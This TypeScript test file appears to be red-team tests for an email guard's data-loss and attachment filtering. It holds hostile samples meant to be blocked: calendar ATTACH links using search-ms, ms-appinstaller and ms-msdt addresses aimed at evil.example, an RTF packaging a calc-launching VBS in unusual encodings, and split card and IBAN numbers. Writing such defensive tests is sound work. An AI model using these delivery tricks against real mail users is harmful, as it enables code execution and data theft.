import { packagedFile, rtfWithObject } from '@wmflow/core/testing';
import { describe, expect, it } from 'vitest';
import { attachedFile, attachmentTests, attackerKit, MIXED, mail, withPart } from './attacker-kit.js';
import { useLocalStack } from './stack.js';

// Attacker round 71: the leads round 70 left open, each replayed through the prebuilt guard and outbound-policy at
// their defaults. A card's four groups joined by table bars, colons, pluses, quotes or brackets, and an IBAN split
// inside its country code and check digits, left the organization; a calendar ATTACH of a `search-ms:` or
// `ms-appinstaller:` address was delivered as a plain link; an RTF document in UTF-32 or in UTF-16 without its byte
// order mark was not read for the file it packages; and a calendar link whose last segment is the host of an address
// inside it (`https://x/redirect/https://www.example.com`) was refused as a `.com` file.
const stack = useLocalStack();
const kit = attackerKit(stack);

const out = (body: string, type = 'text/plain; charset=utf-8') =>
  kit.outbound(mail(['From: Bob <bob@corp.example>', `Content-Type: ${type}`], body));

describe('A71-1: a card whose groups are joined as table cells, fields or quoted values', () => {
  const bodies: Record<string, string> = {
    'a Markdown table row': '| name | card |\r\n|---|---|\r\n| Bob | 4111 | 1111 | 1111 | 1111 |\r\n',
    'a pipe-separated line': 'card 4111|1111|1111|1111 thanks',
    colons: 'card 5555:5555:5555:4444 thanks',
    pluses: 'card 4111+1111+1111+1111 thanks',
    'quoted groups': 'card "4111" "1111" "1111" "1111" thanks',
    'bracketed groups': 'card [4111][1111][1111][1111] thanks',
    'parenthesised groups': 'card (4111) (1111) (1111) (1111) thanks',
    'an American Express card in table cells': '| 3782 | 822463 | 10005 |',
    'a card and its expiry in table cells': '| 4111 | 1111 | 1111 | 1111 | 1229 |',
  };
  for (const [how, body] of Object.entries(bodies))
    it(`bounces ${how}`, async () => {
      expect(await out(body)).toBe('BOUNCE');
    });
  const controls: Record<string, string> = {
    'a Markdown table of six four-digit columns': [
      '| Q1 | Q2 | Q3 | Q4 | Q5 | Q6 |',
      '|---|---|---|---|---|---|',
      '| 4001 | 4002 | 4003 | 4004 | 4005 | 4006 |',
      '| 5107 | 5108 | 5109 | 5110 | 5111 | 5112 |',
    ].join('\r\n'),
    'a table of order numbers': '| order | qty |\r\n|---|---|\r\n| 4500012345 | 2 |\r\n| 4500012346 | 10 |',
    'a phone list':
      '| Alice | +1 (555) 010-0199 |\r\n| Bob | +44 (20) 7946 0958 |\r\n| Eve | +49 30 901820 |',
    'an ISBN table': '| ISBN | title |\r\n| 978-3-16-148410-0 | A |\r\n| 978-0-306-40615-7 | B |',
    'a timetable': 'Departures 08:15:30, 09:45:00, 12:30:45:11 and 41:11:11:11:11:11:11:11',
    'an IPv6 address': 'host 2001:4860:4860:0000:0000:0000:0000:8888',
    'a GS1 label': '(01) 09506000134352 (17) 261231 (10) 4111',
    'a sum': 'total 1200+4500+3300+2100 = 11100',
    'a JSON array': 'codes [4111, 1111, 1111, 1111]',
  };
  for (const [what, body] of Object.entries(controls))
    it(`(control) delivers ${what}`, async () => {
      expect(await out(body)).toBe('DEFAULT');
    });
});

describe('A71-2: an IBAN split inside its country code or check digits', () => {
  const bodies: Record<string, string> = {
    'GB8 2WEST…': 'pay to GB8 2WEST 1234 5698 7654 32 today',
    'DE8 9370…': 'IBAN DE8 9370 4004 4053 2013 000',
    'G B82…': 'pay to G B82 WEST 1234 5698 7654 32 today',
    'NL9-1ABNA…': 'iban NL9-1ABNA-0417-1643-00',
  };
  for (const [how, body] of Object.entries(bodies))
    it(`bounces ${how}`, async () => {
      expect(await out(body)).toBe('BOUNCE');
    });
  it('(control) delivers grid references, model numbers and postcodes', async () => {
    expect(await out('Meet at grid G 8 12, model D E8 9 and flat B 12 34, postcode GB8 2AB.')).toBe(
      'DEFAULT',
    );
  });
});

const ics = (attach: string) =>
  [
    'BEGIN:VCALENDAR',
    'VERSION:2.0',
    'METHOD:REQUEST',
    'BEGIN:VEVENT',
    'SUMMARY:Quarterly review',
    'DTSTART:20261201T100000Z',
    'UID:71-1@partner.example',
    attach.replace(/(.{74})(?=.)/g, '$1\r\n '),
    'END:VEVENT',
    'END:VCALENDAR',
    '',
  ].join('\r\n');
function invitation(attach: string): [Buffer, string] {
  const part = `Content-Type: text/calendar; method=REQUEST; charset=utf-8; name="invite.ics"\r\n\r\n${ics(attach)}`;
  return [mail([MIXED], withPart(part)), attach.slice(-30)];
}

describe('A71-4: a calendar ATTACH of an address Windows opens in a program of its own', () => {
  attachmentTests(kit, {
    'search-ms: on a WebDAV share': invitation(
      'ATTACH:search-ms:query=invoice&crumb=location:%5C%5Cevil.example@SSL%5CDavWWWRoot%5C&displayname=Invoices',
    ),
    'ms-appinstaller: from an address': invitation(
      'ATTACH:ms-appinstaller:?source=https://evil.example/update.appinstaller',
    ),
    'upper-case SEARCH-MS:': invitation(
      'ATTACH;VALUE=URI:SEARCH-MS:query=x&crumb=location:\\\\evil.example\\s',
    ),
    'ms-msdt:': invitation('ATTACH:ms-msdt:/id PCWDiagnostic /skip force'),
  });
});

describe('A71-3: a calendar link whose last segment is the host of an address inside it', () => {
  it('(control) delivers a redirect or archive link to a site', async () => {
    for (const attach of [
      'ATTACH:https://links.partner.example/redirect/https://www.example.com',
      'ATTACH:https://web.archive.org/web/2020/https://www.example.com/',
      'ATTACH:https://web.archive.org/web/2020/https:/example.com',
      'ATTACH:https://links.partner.example/r/https%3A%2F%2Fwww.example.com',
      'ATTACH:https://links.partner.example/r/http://shop.example.co.uk',
    ])
      expect((await kit.inbound(invitation(attach)[0])).verdict, attach).toBe('DEFAULT');
  });
  attachmentTests(kit, {
    'a file after an embedded address': invitation(
      'ATTACH:https://x.example/r/https://evil.example/invoice.com',
    ),
    'a blocked extension no host has': invitation('ATTACH:https://x.example/r/https://invoice.exe'),
    'a bare host name with no address around it': invitation('ATTACH:https://x.example/r/www.example.com'),
  });
});

describe('A71-5: an RTF document in UTF-32 or in UTF-16 without its mark', () => {
  const vbs = Buffer.from('CreateObject("WScript.Shell").Run "calc"\r\n');
  const rtf = rtfWithObject('Package', packagedFile('invoice.vbs', vbs));
  const utf32 = (text: string, little: boolean) => {
    const cps = [...text].map((c) => c.codePointAt(0) as number);
    const b = Buffer.alloc(cps.length * 4);
    cps.forEach((cp, k) => {
      if (little) b.writeUInt32LE(cp, k * 4);
      else b.writeUInt32BE(cp, k * 4);
    });
    return b;
  };
  const utf16be = (text: string) => Buffer.from(text, 'utf16le').swap16();
  attachmentTests(kit, {
    'invoice.doc in UTF-32LE with its mark': attachedFile('invoice.doc', utf32(`\ufeff${rtf}`, true)),
    'invoice.doc in UTF-32BE with its mark': attachedFile('invoice.doc', utf32(`\ufeff${rtf}`, false)),
    'invoice.doc in UTF-32LE without a mark': attachedFile('invoice.doc', utf32(rtf, true)),
    'invoice.doc in UTF-32BE without a mark': attachedFile('invoice.doc', utf32(rtf, false)),
    'invoice.doc in UTF-16LE without a mark': attachedFile('invoice.doc', Buffer.from(rtf, 'utf16le')),
    'invoice.doc in UTF-16BE without a mark': attachedFile('invoice.doc', utf16be(rtf)),
  });
  it('(control) delivers RTF letters in UTF-32 and UTF-16 without a mark', async () => {
    const letter = '{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}\\f0 Dear customer,\\par See you soon.\\par}';
    for (const [name, bytes] of [
      ['letter.doc', utf32(`\ufeff${letter}`, true)],
      ['letter.doc', utf32(letter, false)],
      ['letter.doc', Buffer.from(letter, 'utf16le')],
      ['notes.txt', Buffer.from('hello, this is a note', 'utf16le')],
    ] as const)
      expect((await kit.inbound(attachedFile(name, bytes)[0])).verdict, name).toBe('DEFAULT');
  });
});
